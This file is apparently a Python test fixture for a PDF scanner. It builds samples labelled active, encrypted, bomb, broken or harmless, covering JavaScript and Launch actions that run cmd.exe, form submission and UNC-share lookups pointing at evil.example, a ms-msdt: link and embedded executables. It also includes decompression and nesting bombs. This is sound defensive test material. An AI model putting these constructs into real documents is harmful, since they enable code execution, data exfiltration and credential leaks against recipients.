"""PDF files that would do harm: every active thing, packed where a search for words does not find it, and
files that are too much, too deep or in circles. ``PDFS`` as ``hostile.CORPUS``.
"""

import zlib

from tests.files.pdfs import PAGE, locked, packed, plain, stream, with_catalog

NAME = "文件.pdf"
_EMBEDDED = b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>"
#: What it is -> an object of the file.
ACTIVE = {
    "script": b"<</S/JavaScript/JS(app.alert)>>",
    "script in a stream": b"<</S/JavaScript/JS 4 0 R>>",
    "script under an escaped name": b"<</S/J#61vaScript/JS(x)>>",
    "script of a rendition": b"<</S/Rendition/JS(x)>>",
    "script after a harmless step": b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>",
    "script in a tree of names": b"<</Names[(a)<</S/JavaScript/JS(x)>>]>>",
    "launch": b"<</S/Launch/F(cmd.exe)>>",
    "launch in an annotation": b"<</Type/Annot/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>>>",
    "sends a form": b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>",
    "takes data in": b"<</S/ImportData/F(c.fdf)>>",
    "form of XFA": b"<</Fields[]/XFA[(template)4 0 R]>>",
    "embedded file": _EMBEDDED,
    "embedded file in a tree": b"<</Names[(a)" + _EMBEDDED + b"]>>",
    "file pinned to a page": b"<</Type/Annot/Subtype/FileAttachment/FS 4 0 R>>",
    "rich media": b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>",
    "film": b"<</Type/Annot/Subtype/Screen>>",
    "old film": b"<</Subtype/Movie>>",
    "three dimensions": b"<</Type/Annot/Subtype/3D>>",
    "share": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>",
    "share in an embedded step": b"<</S/GoToE/F<</F(//evil.example/x)>>>>",
    "share in UTF-16": b"<</S/GoToR/F<FEFF005C005C006500760069006C>>>",
    "script in a link": b"<</S/URI/URI(JavaScript:alert)>>",
    "handler in a link": b"<</S/URI/URI(ms-msdt:/id)>>",
    "address nobody clicked": b"<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>",
    "address after a harmless step": b"<</OpenAction<</S/GoTo/Next[<</S/URI/URI(https://e.cn)>>]>>>>",
}
#: The same kinds of things as honest programs write them.
QUIET = {
    "link to the web": b"<</S/URI/URI(https://www.example.cn/a?b=c)>>",
    "link for mail": b"<</S/URI/URI(mailto:a@example.cn)>>",
    "link to the disk of whoever wrote it": b"<</S/URI/URI(file:///C:/a.docx)>>",
    "link without a scheme": b"<</S/URI/URI(www.example.cn)>>",
    "another document beside it": b"<</S/GoToR/F(b.pdf)/D[0/Fit]>>",
    "first page shown at once": b"<</OpenAction[3 0 R/Fit]/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>>>",
    "plain form": b"<</Fields[<</FT/Tx/T(name)/V(/JavaScript)>>]>>",
    "words that are no names": b"[(/S/JavaScript)(<</S/Launch>>)<2F4C61756E6368>]",
    "structure": b"<</Type/StructElem/S/P/K[0]>>",
    "font called JS": b"<</Font<</JS 4 0 R>>/ExtGState<</AA 4 0 R/EF null>>>>",
}
_KIDS = b"<</Type/Pages/Count 9/Kids[%s]>>"
_TREE = [_KIDS % (b"%d 0 R " % number * 10) for number in range(5, 15)]
_MANY = _KIDS % b"".join(b"%d 0 R " % number for number in range(4, 6004))
_OPENS_4 = with_catalog(b"/OpenAction 4 0 R")
_OPENS_5 = with_catalog(b"/OpenAction 5 0 R")
_SCRIPT = {"/OpenAction": {"/S": "/JavaScript"}}

_CASES = {
    "address opened by reference": (
        packed(b"<</S/URI/URI(https://e.cn)>>", catalog=_OPENS_5),
        "file_active",
    ),
    "name of a script kept apart": (packed(b"<</S 6 0 R>>", b"/JavaScript"), "file_active"),
    "content kept elsewhere": (
        plain(b"<</F(//e.cn/x)/Length 0>>stream\n\nendstream"),
        "file_active",
    ),
    "script no table leads to": (plain() + b"9 0 obj<</S /JavaScript/JS(x)>>endobj\n%%EOF", "file_active"),
    "wants a password": (locked("geheim"), "file_encrypted"),
    "encrypted, opens by itself": (locked(""), "harmless"),
    "encrypted, opens by itself, with a script": (locked("", catalog=_SCRIPT), "file_active"),
    "bomb in a stream of objects": (packed(b"<<>>", padding=400), "file_bomb"),
    "bomb of contents, never unpacked here": (plain(stream(zlib.compress(bytes(90 << 20), 9))), "harmless"),
    "brackets without end": (plain(b"[" * 50_000), "file_bomb"),
    "deeper than anybody reads": (plain(b"[" * 900 + b"]" * 900), "file_bomb"),
    "packed, deeper than anybody reads": (packed(b"<</A" * 900 + b" 0 " + b">>" * 900), "file_bomb"),
    "steps in a circle": (plain(b"<</S/GoTo/Next 4 0 R>>", catalog=_OPENS_4), "file_bomb"),
    "things in a circle": (plain(b"[4 0 R 5 0 R]", b"<</A 4 0 R/B 5 0 R>>"), "harmless"),
    "pages in a circle": (plain(pages=_KIDS % b"2 0 R"), "file_broken"),
    "ten pages, each ten pages, and so on": (
        plain(PAGE, *_TREE, PAGE, pages=_KIDS % (b"5 0 R " * 10)),
        "file_broken",
    ),
    "one page a hundred thousand times": (plain(pages=_KIDS % (b"3 0 R " * 100_000)), "file_broken"),
    "more pages than any document": (plain(*[PAGE] * 6000, pages=_MANY), "file_bomb"),
    "no page": (plain(pages=b"<</Type/Pages/Kids[]/Count 0>>"), "file_broken"),
    "no catalog": (plain(catalog=b"null"), "file_broken"),
    "stream of objects that cannot be unpacked": (packed(b"<</S/Launch>>", squeezed=b"x"), "file_broken"),
    "stream of objects with half a string": (packed(b"(" * 5000), "file_broken"),
    "stream of objects that ends amidst the second": (packed(b"<<>>", b"(" * 5000), "file_broken"),
    "nothing between its ends": (b"%PDF-1.4\nstartxref\n9\n%%EOF\n", "file_broken"),
    # What readers repair is repaired here too, and judged as repaired.
    "table at the wrong place": (plain().replace(b"startxref\n", b"startxref\n7"), "harmless"),
    "wrong places in the table": (plain().replace(b"00000000", b"00000001"), "harmless"),
    "wrong length of a stream": (
        plain(b"<</Length 999>>stream\nBT ET\nendstream"),
        "harmless",
    ),
    "script behind wrong places": (
        plain(b"<<>>", b"<</S/J#61vaScript/JS(x)>>").replace(b"00000000", b"00000001"),
        "file_active",
    ),
}  # fmt: skip

#: What it is -> (name, bytes, code).
PDFS = {f"pdf: {what}": (NAME, data, code) for what, (data, code) in _CASES.items()}
for what, body in ACTIVE.items():
    PDFS[f"pdf, packed: {what}"] = (NAME, packed(body), "file_active")
    PDFS[f"pdf, plain: {what}"] = (NAME, plain(b"<<>>", body), "file_active")
    PDFS[f"pdf, deep inside: {what}"] = (NAME, packed(b"[" * 200 + body + b"]" * 200), "file_active")
for what, body in QUIET.items():
    PDFS[f"pdf, packed: {what}"] = (NAME, packed(body), "harmless")
